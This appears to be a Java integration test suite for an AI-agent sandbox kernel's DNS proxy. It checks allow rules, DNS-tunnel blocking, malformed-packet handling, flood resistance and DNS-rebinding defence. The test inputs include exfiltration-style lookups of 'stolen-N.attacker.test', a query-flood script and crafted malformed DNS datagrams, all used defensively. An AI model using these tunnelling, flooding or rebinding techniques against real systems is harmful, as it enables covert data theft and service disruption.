// SPDX-License-Identifier: MIT
package io.agentos.kernel.integration;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.agentos.kernel.syscall.Opcode;
import io.agentos.kernel.testing.Expect;
import io.agentos.kernel.testing.KernelProcess;
import io.agentos.kernel.testing.Operator;
import io.agentos.kernel.testing.Procs;
import io.agentos.kernel.testing.SandboxedAgent;
import io.agentos.kernel.testing.Until;
import java.io.IOException;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Names as programs behind the proxy look them up, and what of that leaves the kernel. The kernel
 * lives in a network of its own, whose name server writes down what it is asked.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class LookupsIT {
  private static final String LOOK =
      """
      import socket, sys, time
      for name in sys.argv[1:]:
          began = time.monotonic()
          try:
              print(name, *sorted({found[4][0] for found in socket.getaddrinfo(name, 80)}))
          except OSError as e:
              print(name, e.args[0] == socket.EAI_NONAME, time.monotonic() - began < 2)
      """;

  /** Sends datagrams as they are written in hexadecimal; prints the answers' codes. */
  private static final String RAW =
      """
      import socket, struct, sys
      def question(name, kind=1):
          labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.') if l)
          return labels + struct.pack('!BHH', 0, kind, 1)
      def query(name, kind=1, flags=0x100, count=1):
          return struct.pack('!HHHHHH', 7, flags, count, 0, 0, 0) + question(name, kind) * count
      def told(answer):
          return answer[3] & 15, struct.unpack_from('!H', answer, 6)[0]
      def datagram(data):
          s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
          s.settimeout(1)
          s.sendto(data, ('127.0.0.1', 53))
          try:
              return told(s.recv(4096))
          except TimeoutError:
              return 'silence'
      def stream(data):
          with socket.create_connection(('127.0.0.1', 53)) as s:
              s.sendall(struct.pack('!H', len(data)) + data)
              answer = b''
              while part := s.recv(4096):
                  answer += part
              return told(answer[2:]) if answer else 'end'
      """;

  /**
   * Who is not root is root in a namespace of its own, makes the world there, and is itself again.
   */
  private static final List<String> WORLD =
      Procs.isRoot()
          ? List.of("unshare", "--mount", "--net")
          : List.of("unshare", "--user", "--map-root-user", "--mount", "--net");

  private static final List<String> BACK =
      Procs.isRoot()
          ? List.of()
          : List.of("unshare", "--user", "--map-user=1000", "--map-group=1000");

  private KernelProcess kernel;
  private Operator operator;
  private SandboxedAgent listed;
  private SandboxedAgent roaming;
  private Path log;

  /** Words before the kernel's command. */
  List<String> prefix() {
    return List.of();
  }

  @BeforeAll
  void start() throws IOException {
    Path folder = KernelProcess.newFolder();
    log = folder.resolve("world.log");
    Path world = folder.resolve("world.py");
    try (InputStream text = LookupsIT.class.getResourceAsStream("/world.py")) {
      Files.copy(Objects.requireNonNull(text), world);
    }
    Path resolver = Files.writeString(folder.resolve("resolv.conf"), "nameserver 127.0.0.77\n");
    Files.setPosixFilePermissions(resolver, PosixFilePermissions.fromString("rw-r--r--"));
    String inside =
        "mount --bind "
            + resolver
            + " /etc/resolv.conf; python3 "
            + world
            + " "
            + folder
            + " & exec \"$@\"";
    kernel =
        KernelProcess.startIn(
            folder,
            // Each request looks its name up anew.
            Map.of("JAVA_TOOL_OPTIONS", "-Dsun.net.inetaddr.ttl=0"),
            Stream.of(WORLD, List.of("sh", "-c", inside, "sh"), BACK, prefix())
                .flatMap(List::stream)
                .toList());
    Until.holds("the world is there", () -> Files.exists(log) && asked().contains("ready"));
    operator = new Operator(kernel);
    listed = agent("listed", List.of("api.test", "*.wild.test:443", "inside.test"));
    roaming = agent("roaming", List.of("*"));
  }

  private String asked() {
    try {
      return Files.readString(log);
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private SandboxedAgent agent(String name, List<String> network) throws IOException {
    SandboxedAgent made =
        SandboxedAgent.start(
            kernel,
            operator,
            name,
            Map.of(
                "network", "proxy", "permissions", Map.of("network", network, "can_http", true)));
    Files.writeString(made.workspace().resolve("look.py"), LOOK);
    Files.writeString(made.workspace().resolve("raw.py"), RAW);
    return made;
  }

  @AfterAll
  void stop() throws IOException {
    listed.close();
    roaming.close();
    operator.close();
    kernel.close();
  }

  private String look(SandboxedAgent agent, String... names) throws IOException {
    return agent.shell("python3 look.py " + String.join(" ", names));
  }

  private String get(SandboxedAgent agent, String name) throws IOException {
    return agent.shell("curl -sS http://" + name + ":8080/ -w ' %{http_code}' || true");
  }

  @Test
  void tellsOfNamesThatTheRulesAllow() throws IOException {
    assertThat(
            look(listed, "api.test", "API.Test", "api.test.", "a.wild.test", "a.b.wild.test")
                .strip()
                .replace('\n', ' '))
        .isEqualTo(
            "api.test 127.0.0.2 API.Test 127.0.0.2 api.test. 127.0.0.2 a.wild.test 127.0.0.2 a.b.wild.test 127.0.0.2");
    assertThat(look(roaming, "anything.test")).isEqualTo("anything.test 127.0.0.2\n");
    assertThat(look(listed, "localhost")).contains("127.0.0.1");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "evil.test",
        "wild.test",
        "x.api.test",
        "api.test.evil.test",
        "xapi.test",
        "1.0.0.127.in-addr.arpa"
      })
  void saysAtOnceThatThereAreNoOthers(String name) throws IOException {
    assertThat(look(listed, name)).isEqualTo(name + " True True\n");
    JsonNode denied =
        operator.call(
            Opcode.GET_AUDIT_LOG,
            Map.of("agent_id", listed.id(), "decision", "denied", "category", "proxy"));
    assertThat(
            StreamSupport.stream(denied.get("entries").spliterator(), false)
                .map(entry -> entry.get("subject").asText()))
        .contains("lookup " + name + ".");
  }

  /** The first half of a tunnel: what a program puts into a name is heard by nobody. */
  @Test
  void asksNobodyElse_whateverTheRulesSay() throws IOException {
    look(listed, "api.test", "stolen-1.api.test", "stolen-2.attacker.test", "stolen-3.wild.test");
    look(roaming, "stolen-4.attacker.test");
    get(listed, "stolen-5.attacker.test");
    assertThat(asked()).doesNotContain("stolen", "api.test");
    assertThat(get(listed, "inside.test")).isEqualTo("private 200");
    assertThat(asked()).contains("asked inside.test", "came 127.0.0.1");
  }

  /** Nor is there another name server within reach. */
  @Test
  void reachesNoOtherNameServer() throws IOException {
    String attempt =
        RAW
            + """
            for place in ('127.0.0.77', '127.0.0.53', '8.8.8.8', '93.184.216.34'):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(1)
                try:
                    s.connect((place, 53))
                    s.send(query('stolen-6.attacker.test'))
                    s.recv(4096)
                    print(place, 'answered')
                except OSError as e:
                    print('refused')
            """;
    Files.writeString(roaming.workspace().resolve("others.py"), attempt);
    assertThat(roaming.shell("python3 others.py")).isEqualTo("refused\n".repeat(4));
    assertThat(asked()).doesNotContain("stolen-6");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '"',
      value = {
        "query('api.test') | (0, 1)",
        "query('api.test', 28) | (0, 0)",
        "query('api.test', 16) | (0, 0)",
        "query('evil.test', 16) | (3, 0)",
        "query('api.test', 252) | (0, 0)",
        "query('api.test', flags=0x1100) | (4, 0)",
        "query('api.test', count=2) | (1, 0)",
        "query('api.test', count=0) | (1, 0)",
        "query('a' * 63 + '.api.test') | (3, 0)",
        "query('') | (3, 0)",
      })
  void answersAsNameServersDo(String query, String told) throws IOException {
    String line = "python3 -c \"from raw import *; q = %s; print(datagram(q)); print(stream(q))\"";
    assertThat(listed.shell(line.formatted(query))).isEqualTo(told + "\n" + told + "\n");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "b''",
        "b'x'",
        "b'\\xff' * 512",
        "b'\\0' * 11",
        "query('api.test')[:-3]",
        "query('api.test', flags=0x8100)",
        "query('api.test', count=1)[:12] + b'\\xc0\\x0c\\0\\1\\0\\1'",
        "query('api.test')[:12] + b'\\x40' + b'a' * 64 + b'\\0\\0\\1\\0\\1'",
        "struct.pack('!HHHHHH', 7, 0x100, 65535, 65535, 65535, 65535) + question('api.test')",
      })
  void survivesWhatIsNoQuery(String data) throws IOException {
    String line =
        "python3 -c \"from raw import *; q = %s; print(datagram(q)); print(stream(q)); print(datagram(query('api.test')), stream(query('api.test')))\"";
    assertThat(listed.shell(line.formatted(data))).isEqualTo("silence\nend\n(0, 1) (0, 1)\n");
  }

  /**
   * A flood of questions, and connections that never ask, cost their own agent the answers alone.
   */
  @Test
  void servesOthers_whileAnAgentFloods() throws Exception {
    String flood =
        """
        from raw import *
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        held = [socket.create_connection(('127.0.0.1', 53)) for _ in range(200)]
        print('floods', flush=True)
        i = 0
        while True:
            i += 1
            s.sendto(query(f'n{i}.evil.test'), ('127.0.0.1', 53))
        """;
    try (SandboxedAgent flooder = agent("flooder", List.of("api.test"))) {
      Files.writeString(flooder.workspace().resolve("flood.py"), flood);
      flooder
          .client()
          .send(
              Opcode.EXEC.number(),
              Operator.json(Map.of("command", "python3 flood.py", "stream", true)));
      assertThat(flooder.client().receive().json().get("data").asText()).contains("floods");
      for (int i = 0; i < 20; i++) {
        assertThat(look(roaming, "n" + i + ".test")).contains("127.0.0.2");
        assertThat(get(listed, "inside.test")).isEqualTo("private 200");
      }
    }
  }

  @Test
  void goesByTheRulesOfTheMoment() throws IOException {
    try (SandboxedAgent narrowed = agent("narrowed", List.of("api.test"))) {
      assertThat(look(narrowed, "api.test")).contains("127.0.0.2");
      Expect.success(
          narrowed.call(Opcode.SET_PERMS, Map.of("permissions", Map.of("can_http", false))));
      assertThat(look(narrowed, "api.test")).contains("True True");
    }
  }

  /** A name that leads somewhere else whenever it is asked for again. */
  @Test
  void connectsToWhatItJudged_whileNamesAreRebound() throws IOException {
    StringBuilder seen = new StringBuilder();
    for (int i = 0; i < 30; i++) {
      String name = "flip" + i + ".test";
      seen.append(get(roaming, name)).append('\n').append(get(roaming, name)).append('\n');
    }
    assertThat(seen.toString()).contains("public 200", "private, local or reserved", " 403");
    assertThat(seen.toString()).doesNotContain("private 200");
    assertThat(get(roaming, "both.test")).contains("127.0.0.1, a private", "403");
    assertThat(get(roaming, "inside.test")).contains("403");
  }
}
